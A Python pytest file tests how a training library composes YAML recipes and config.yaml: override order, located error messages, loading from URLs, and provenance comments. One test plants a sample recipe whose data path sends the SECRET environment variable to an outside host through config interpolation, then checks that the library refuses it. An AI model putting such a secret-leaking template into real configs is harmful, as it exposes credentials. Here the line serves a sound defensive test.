"""Recipes are words written down, and config.yaml is one."""

from pathlib import Path

import fsspec
import pytest

from dtrain import recipe
from dtrain.cluster import Cluster
from dtrain.compose import compose
from dtrain.errors import WordsError
from dtrain.resolve import resolve


def refused(*words: str) -> str:
    with pytest.raises(WordsError) as caught:
        compose(words)
    return str(caught.value)


def written(tmp_path: Path, text: str) -> str:
    (tmp_path / "mine.yaml").write_text(text)
    return f"recipe={tmp_path}/mine.yaml"


def test_a_recipe_comes_before_the_words(tmp_path: Path) -> None:
    said = written(tmp_path, "defaults:\n  - override /optim: sgd\noptim: {lr: 0.5, momentum: 0.0}\nsteps: 5\n")
    config = compose(["steps=6", said])
    assert (config.steps, config.optim["lr"], config.optim["momentum"]) == (6, 0.5, 0.0)
    assert config.sources["steps"] == "command line"
    assert config.sources["optim.lr"] == f"{tmp_path}/mine.yaml:3"


def test_the_last_recipe_wins(tmp_path: Path) -> None:
    for name, steps in (("a", 5), ("b", 6)):
        (tmp_path / f"{name}.yaml").write_text(f"steps: {steps}\n{'seed: 4' if name == 'a' else ''}\n")
    config = compose([f"recipe=[{tmp_path}/a.yaml,{tmp_path}/b.yaml]"])
    assert (config.steps, config.seed) == (6, 4)


def test_another_choice_drops_the_arguments_of_the_recipe(tmp_path: Path) -> None:
    said = written(tmp_path, "defaults:\n  - override /model: mlp\n  - override /data: synthetic\nmodel: {width: 7}\n")
    config = compose([said, "model=gpt"])
    assert config.model["width"] == 128


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a: [1\n b: 2", "mine.yaml:2:3: not YAML"),
        ("- 1", "a mapping of words to values is expected"),
        ("trust: [x]", "trust cannot come from a recipe"),
        ("out: /tmp", "out cannot come from a recipe"),
        ("defaults:\n  - model: gpt\n", "override /model: gpt"),
        ("modl: 3", "Did you mean model?"),
        ("optim: {lrr: 3}", "Did you mean optim.lr?"),
    ],
)
def test_a_broken_recipe_is_named_with_the_place(tmp_path: Path, text: str, said: str) -> None:
    message = refused(written(tmp_path, text))
    assert said in message
    assert "mine.yaml" in message


def test_a_recipe_that_is_not_there_is_named(tmp_path: Path) -> None:
    assert f"{tmp_path}/none.yaml: it does not exist" in refused(f"recipe={tmp_path}/none.yaml")


def test_a_recipe_may_lie_at_any_url() -> None:
    fsspec.filesystem("memory").pipe_file("/far.yaml", b"steps: 9")
    assert compose(["recipe=memory://far.yaml"]).steps == 9


def test_a_recipe_from_elsewhere_does_not_read_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    fsspec.filesystem("memory").pipe_file("/spy.yaml", b'data: {path: "https://elsewhere/${oc.env:SECRET}"}')
    assert "environment" in refused("recipe=memory://spy.yaml")


RECIPES = recipe.folder("conf").with_name("recipes")


@pytest.mark.parametrize("path", sorted(RECIPES.glob("*.yaml")), ids=lambda path: path.stem)
def test_every_recipe_resolves(path: Path) -> None:
    of_yours = ["data.path=mine"] if "/data: tokens" in path.read_text() else []
    assert resolve(compose([f"recipe={path.stem}", *of_yours]), Cluster(gpus=0, cpus=8)).steps > 0


# config.yaml


def test_config_yaml_runs_the_same_plan_again(tmp_path: Path) -> None:
    first = compose(["strategy=fsdp", "devices=2", "optim=muon", "optim.lr=0.5", "logger=[console]", "data.holdout=0.2", "out=runs/a"])
    (tmp_path / "config.yaml").write_text(recipe.write(first))
    again = compose([f"recipe={tmp_path}/config.yaml", "out=runs/a"])
    here = Cluster(gpus=0, cpus=4)
    one, two = resolve(first, here).to_dict(), resolve(again, here).to_dict()
    assert {key: (one[key], two[key]) for key in one if one[key] != two[key]} == {}


def test_a_mistake_beside_config_yaml_is_still_found(tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text(recipe.write(compose([])))
    assert "optim.lr" in refused(f"recipe={tmp_path}/config.yaml", "optim.lrr=1")


def test_config_yaml_says_where_each_value_came_from() -> None:
    lines = recipe.write(compose(["optim.lr=0.5", "trust=[mine]"])).splitlines()
    assert "  lr: 0.5  # command line" in lines
    assert "# needs trust=['mine']" in lines
    assert not any(line.startswith("trust") for line in lines), "trust is given anew each time"


def test_another_verb_looks_from_any_mesh(tmp_path: Path) -> None:
    config = compose(["strategy=fsdp", "nodes=2", "devices=2", "model.layers=3", "microbatch=1", "resume=must"])
    (tmp_path / "config.yaml").write_text(recipe.write(config))
    looking = compose(["generate.tokens=3"], run=str(tmp_path))
    assert (looking.model["layers"], looking.generate.tokens) == (3, 3)
    assert (looking.nodes, looking.devices, looking.microbatch, looking.resume, looking.choices["strategy"]) == (1, "auto", None, "auto", "auto")
